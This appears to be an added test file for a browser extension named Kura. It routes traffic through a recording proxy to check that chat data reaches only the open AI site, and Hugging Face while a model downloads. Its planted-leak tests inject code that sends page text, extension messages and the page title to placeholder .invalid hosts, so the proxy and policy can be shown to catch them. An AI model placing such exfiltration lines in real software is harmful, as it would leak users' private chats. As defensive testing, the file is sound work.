@@ -1,0 +1,80 @@
+/**
+ * A run of everything through a proxy that writes down whom the browser turns to: the sites that are open, the hub while a model is
+ * downloaded, and nobody else. A copy of the extension into which leaks were planted is caught by the same. All sites by
+ * `npm run campaigns`.
+ */
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { alteredBuild, withoutPolicy } from './isolation/altered-build';
+import { launchRecorded, outOfTurn, runEverything, runWithout, startGround, type Ground } from './isolation/egress';
+import { captureOn, markers } from './isolation/full-run';
+import { strangersIn } from './isolation/recording-proxy';
+import { practiceSite } from './practice-sites';
+
+const sites = ['ChatGPT, classic', 'Gemini', 'DeepSeek'].map(practiceSite);
+
+let ground: Ground;
+beforeAll(async () => {
+  ground = await startGround();
+});
+afterAll(() => ground?.close());
+
+test(
+  'nobody hears of a chat but the site that is open; the hub only while a model is downloaded',
+  { timeout: 400_000 },
+  async () => {
+    const told = await runEverything(ground, sites);
+    const browsersOwn = new Set((await runWithout(ground, sites)).map(({ host }) => host));
+    const strangers = strangersIn(told.exchanges, new Set([...ground.practice.hosts, ...browsersOwn]));
+    console.log(
+      `${told.exchanges.length} exchanges; by the browser without Kura, too: ${[...browsersOwn].join(', ')}; strangers:`,
+      strangers,
+    );
+    expect(strangers).toEqual({});
+    expect(outOfTurn(told)).toEqual([]);
+    expect(told.exchanges.some(({ host }) => host === 'huggingface.co')).toBe(true);
+    // What a site's own page asks of its site holds no word of a chat here, so that nothing of Kura's could hide in it.
+    const spoken = told.requests.filter(({ path }) => markers.some(word => decodeURIComponent(path).includes(word)));
+    expect(spoken).toEqual([]);
+  },
+);
+
+describe('leaks that are planted', () => {
+  const plants = {
+    'content-scripts/chatgpt.js': (text: string) =>
+      `${text};setTimeout(() => fetch('https://leak-page.invalid/?' + encodeURIComponent(document.body.innerText.slice(0, 99))), 500);`,
+    'background.js': (text: string) =>
+      `${text};chrome.runtime.onMessage.addListener(told => void fetch('https://leak-background.invalid/?' + encodeURIComponent(JSON.stringify(told).slice(0, 99))).catch(() => {}));`,
+    'welcome.html': (text: string) => text.replace('</head>', '<script src="/planted.js"></script></head>'),
+  };
+
+  /** Whom a copy with all of them turned to, beside the site that was open. */
+  async function heardOf(withPolicy: boolean): Promise<readonly string[]> {
+    const copy = alteredBuild();
+    const before = ground.proxy.exchanges.length;
+    for (const [file, plant] of Object.entries(plants)) copy.edit(file, plant);
+    copy.add('planted.js', `new Image().src = 'https://leak-image.invalid/?' + encodeURIComponent(document.title);`);
+    if (!withPolicy) withoutPolicy(copy);
+    const kura = await launchRecorded(ground, copy.folder);
+    try {
+      await captureOn(kura, [practiceSite('ChatGPT, classic')]);
+      await new Promise(resolve => setTimeout(resolve, 1000));
+    } finally {
+      await kura.close();
+      copy.remove();
+    }
+    return Object.keys(strangersIn(ground.proxy.exchanges.slice(before), new Set(ground.practice.hosts)));
+  }
+
+  test('one in a script on a page is named; those in the background and in an own page are stopped by the policy', async () => {
+    const heard = await heardOf(true);
+    expect(heard).toContain('leak-page.invalid');
+    expect(heard).not.toContain('leak-background.invalid');
+    expect(heard).not.toContain('leak-image.invalid');
+  });
+
+  test('and named, too, where there is no policy', async () => {
+    expect(await heardOf(false)).toEqual(
+      expect.arrayContaining(['leak-page.invalid', 'leak-background.invalid', 'leak-image.invalid']),
+    );
+  });
+});
